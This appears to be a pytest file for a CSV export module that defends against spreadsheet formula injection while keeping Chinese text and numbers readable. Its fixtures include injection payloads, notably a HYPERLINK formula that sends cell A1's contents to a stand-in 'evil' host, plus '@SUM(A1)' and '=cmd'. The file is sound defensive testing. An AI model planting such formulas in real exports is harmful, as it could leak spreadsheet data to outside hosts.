"""talentdb.csvsafe: CSV exports that open safely, and readably, in a spreadsheet."""
from __future__ import annotations

import csv
import datetime as dt
import decimal
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from talentdb.csvsafe import neutralise, write_csv

COLUMNS = ["id", "person", "org", "amount", "evidence"]


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://x")', "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=1+2", "-1+2", "+886 2 1234 5678"],
)
def test_formula_cells_get_a_leading_apostrophe(cell):
    assert neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["Mira Murati", "米拉·穆拉蒂", "首席技術長", "OpenAI", "a=b", "1+1", "", " =1 is fine after a space?", "'quoted"],
)
def test_plain_text_and_chinese_are_untouched(cell):
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_even_negative():
    assert neutralise(-5) == "-5"
    assert neutralise(-0.25) == "-0.25"
    assert neutralise(6600000000) == "6600000000"
    assert neutralise(6.6e9) == "6600000000"  # no exponent that a spreadsheet would misread
    assert neutralise(0.9) == "0.9"
    assert neutralise(decimal.Decimal("-12.50")) == "-12.50"
    assert neutralise(None) == ""
    assert neutralise(True) == "true"
    assert neutralise(dt.date(2024, 10, 9)) == "2024-10-09"


def test_lists_become_one_readable_cell():
    assert neutralise(["Tim Brooks", "Mira Murati"]) == "Tim Brooks; Mira Murati"
    assert neutralise(["=cmd", "x"]) == "'=cmd; x"


def rows():
    return [
        {"id": 1, "person": "米拉·穆拉蒂", "org": "OpenAI", "amount": None, "evidence": "上週,首席技術長離職"},
        {"id": 2, "person": '=HYPERLINK("http://evil/?"&A1,"click")', "org": "-2+3", "amount": -5,
         "evidence": 'line one\nline "two", with comma'},
        {"id": 3, "person": "@SUM(A1)", "org": "Google DeepMind", "amount": 6600000000},  # evidence missing → empty
    ]


def test_csv_has_bom_header_crlf_and_neutralised_cells():
    out = io.StringIO(newline="")
    assert write_csv(rows(), COLUMNS, out) == 3
    text = out.getvalue()
    assert text.startswith("\ufeffid,person,org,amount,evidence\r\n")
    parsed = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert parsed[0] == COLUMNS
    assert parsed[1] == ["1", "米拉·穆拉蒂", "OpenAI", "", "上週,首席技術長離職"]
    assert parsed[2] == ["2", '\'=HYPERLINK("http://evil/?"&A1,"click")', "'-2+3", "-5", 'line one\nline "two", with comma']
    assert parsed[3] == ["3", "'@SUM(A1)", "Google DeepMind", "6600000000", ""]
    # Every record ends with CRLF (RFC 4180); the newline inside the quoted cell is kept as it was.
    assert text.endswith("\r\n") and text.count("\r\n") == 4


def test_bom_can_be_left_out():
    out = io.StringIO(newline="")
    write_csv(rows(), COLUMNS, out, bom=False)
    assert out.getvalue().startswith("id,person")


def test_raw_mode_keeps_values_as_they_are():
    out = io.StringIO(newline="")
    write_csv(rows(), COLUMNS, out, raw=True, bom=False)
    parsed = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert parsed[2][1] == '=HYPERLINK("http://evil/?"&A1,"click")'
    assert parsed[2][2] == "-2+3"


def test_round_trip_through_a_utf8_file(tmp_path):
    path = tmp_path / "events.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        write_csv(rows(), COLUMNS, handle)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        parsed = list(csv.DictReader(handle))
    assert [row["person"] for row in parsed] == ["米拉·穆拉蒂", '\'=HYPERLINK("http://evil/?"&A1,"click")', "'@SUM(A1)"]


def test_empty_export_is_just_the_header():
    out = io.StringIO(newline="")
    assert write_csv([], COLUMNS, out, bom=False) == 0
    assert out.getvalue() == "id,person,org,amount,evidence\r\n"


# --------------------------------------------------------------------------- through a real spreadsheet


def _xlsx_cells(path: Path) -> tuple[list[str], str]:
    """Shared strings and the raw first sheet XML, read with zipfile so openpyxl is not needed."""
    with zipfile.ZipFile(path) as book:
        names = book.namelist()
        strings_xml = book.read("xl/sharedStrings.xml").decode("utf-8") if "xl/sharedStrings.xml" in names else ""
        sheet_xml = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    strings = [re.sub(r"<[^>]+>", "", si) for si in re.findall(r"<si>(.*?)</si>", strings_xml, re.S)]
    inline = [re.sub(r"<[^>]+>", "", s) for s in re.findall(r"<is>(.*?)</is>", sheet_xml, re.S)]
    import html

    return [html.unescape(s) for s in strings + inline], sheet_xml


# LibreOffice's headless conversion ignores the BOM and reads a CSV as Latin-1 unless told the charset;
# a person opening the file gets the import dialog instead. 44,34,76,1 = comma, double quote, UTF-8, from line 1.
LIBREOFFICE_UTF8_CSV = "CSV:44,34,76,1"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None,
                    reason="LibreOffice (soffice) is not on PATH; CI: apt-get install -y --no-install-recommends libreoffice-calc-nogui")
def test_libreoffice_opens_the_csv_with_chinese_and_no_formulas(tmp_path):
    for name, raw in (("safe", False), ("raw", True)):
        with open(tmp_path / f"{name}.csv", "w", encoding="utf-8", newline="") as handle:
            write_csv(rows(), COLUMNS, handle, raw=raw)
    result = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}", "--headless",
         f"--infilter={LIBREOFFICE_UTF8_CSV}", "--convert-to", "xlsx", "--outdir", str(tmp_path),
         str(tmp_path / "safe.csv"), str(tmp_path / "raw.csv")],
        capture_output=True, text=True, timeout=300,
    )
    assert (tmp_path / "safe.xlsx").exists(), f"soffice failed: {result.stdout} {result.stderr}"
    strings, sheet_xml = _xlsx_cells(tmp_path / "safe.xlsx")
    assert "米拉·穆拉蒂" in strings
    assert "上週,首席技術長離職" in strings
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no cell became a formula
    assert any("HYPERLINK" in s for s in strings)  # it is there, as text
    # Control: without neutralising, the same cells do become formulas, so the check above can fail.
    _, raw_sheet_xml = _xlsx_cells(tmp_path / "raw.xlsx")
    assert "<f" in raw_sheet_xml


def test_the_sqlite_export_path_writes_what_python_writes_for_any_cell():
    # The million-row export has SQLite join and spell each row, and finishes a batch of rows at a time; the text
    # must be exactly what neutralise + csv.writer give, for awkward text (triggers, quotes, commas, CR/LF, tabs,
    # non-ASCII) and numbers Python and SQLite spell apart. Cells holding the separators are handed back. (No NUL:
    # the log refuses text holding one, see test_store.)
    import random
    import sqlite3

    from talentdb.csvsafe import finish_batch, register_sqlite_functions, sqlite_joined_cells

    rng = random.Random(7)
    alphabet = ["a", "Z", ",", '"', "\n", "\r", "=", "+", "-", "@", "\t", " ", "'", "中", "é", "0", ".", "\u2028"]
    numbers = [0.1 + 0.2, 1.5e-05, 2.5e20, -3.0, 0.8, 1e15 + 0.5, 123456.789, 1e-4, 9.999e15, -0.0, 7, 0, -12, 1 / 3,
               2.0 ** 53, 5e-324, 1e16, 999999999999999.9, 1234567890123456789, -1e-300, float("inf"), None, "=1"]

    def text():
        return None if rng.random() < 0.1 else "".join(rng.choice(alphabet) for _ in range(rng.randrange(6)))

    rows = [(text(), rng.choice(numbers), text()) for _ in range(5000)]
    db = sqlite3.connect(":memory:")
    register_sqlite_functions(db)
    db.execute("CREATE TABLE t (a TEXT, b REAL, c TEXT)")
    db.executemany("INSERT INTO t VALUES (?, ?, ?)", rows)
    joined = sqlite_joined_cells([("a", False), ("b", True), ("c", False)])
    lines = [r[0] for r in db.execute(f"SELECT {joined} FROM t ORDER BY rowid")]
    want = io.StringIO()
    csv.writer(want, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n").writerows(
        [neutralise(v) for v in row] for row in db.execute("SELECT a, b, c FROM t ORDER BY rowid"))
    assert finish_batch(lines, frozenset({1}), 3) == want.getvalue()
    assert finish_batch(["1\x1fa\x1fb\x1fc"], frozenset(), 3) is None  # a cell held the unit separator
    assert finish_batch(["1\x1fa\x1eb\x1fc"], frozenset(), 3) is None  # … or the record separator
